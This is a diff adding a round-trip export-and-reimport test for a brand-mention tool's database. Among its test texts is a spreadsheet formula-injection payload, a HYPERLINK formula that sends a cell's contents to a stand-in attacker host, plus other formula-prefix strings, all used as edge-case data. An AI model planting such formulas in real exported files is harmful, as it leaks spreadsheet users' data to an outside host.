@@ -718,3 +718,42 @@ def test_sql_refuses_a_setting_on_postgresql_too(invoke, store_path):
     result = invoke("--db", store_path, "sql", statement)
 
     assert result.exit_code == 1 and result.output.startswith("Error: brandpulse sql is read-only: ")
+
+
+ROUND_TRIP = ("source", "external_id", "brand", "author", "url", "text", "created_at", "lang", "rating", "label",
+              "provenance", "amplification", "dated_after")
+
+
+def _stored(target, columns=ROUND_TRIP):
+    db = open_db(target, read_only=True)
+    try:
+        return {row[1]: dict(zip(columns, row)) for row in db.execute(
+            f"SELECT {', '.join(columns)} FROM mentions ORDER BY external_id").fetchall()}
+    finally:
+        db.close()
+
+
+def test_an_export_ingested_again_gives_the_same_rows_texts_and_all(invoke, store_target, tmp_path):
+    texts = ['=HYPERLINK("https://evil.example/?"&A1, "click") Pinebrook', '@SUM(1+1) Pinebrook', "-2 stars, Pinebrook",
+             'Pinebrook "quoted", with a comma\nline two\r\nline three\tand a tab', "Pinebrook 😀🎉 👍🏽 café ＡＣＭＥ"]
+    source = seed(store_target, [mention(i, text, NOW - timedelta(hours=i), "negative", rating=2 if i == 2 else None,
+                                         lang="en-GB" if i == 3 else "en") for i, text in enumerate(texts, start=1)])
+    db = open_db(source)
+    with transaction(db):
+        db.execute("UPDATE mentions SET amplification = 7, dated_after = :d WHERE external_id = '1'",
+                   {"d": "2026-03-01T10:00:00Z"})
+        db.execute("UPDATE mentions SET provenance = 'model', model = 'm' WHERE external_id = '5'")
+    db.close()
+    config = write_config(tmp_path / "c.yaml", "brands: [{name: Pinebrook Coffee, keywords: [pinebrook]}]\n")
+
+    exported = invoke("--db", source, "export", "-o", tmp_path / "out.jsonl")
+    result = invoke("--config", config, "--db", tmp_path / "copy.db", "ingest", "--no-classify", tmp_path / "out.jsonl")
+
+    # Was: '... line 1: unknown field(s): amplification, answered_at, ..., external_id, ...', every line refused.
+    assert exported.exit_code == 0 and result.exit_code == 0, result.output
+    assert result.stdout.startswith("5 new, 0 duplicate, 0 invalid")
+    before, after = _stored(source), _stored(tmp_path / "copy.db")
+    # The model's label is the importing store's model's to give (--no-classify: not yet); imported ones are kept.
+    assert after.pop("5")["label"] is None and before.pop("5")["label"] == "negative"
+    assert after == before
+    assert after["1"]["amplification"] == 7 and after["4"]["text"] == texts[3]
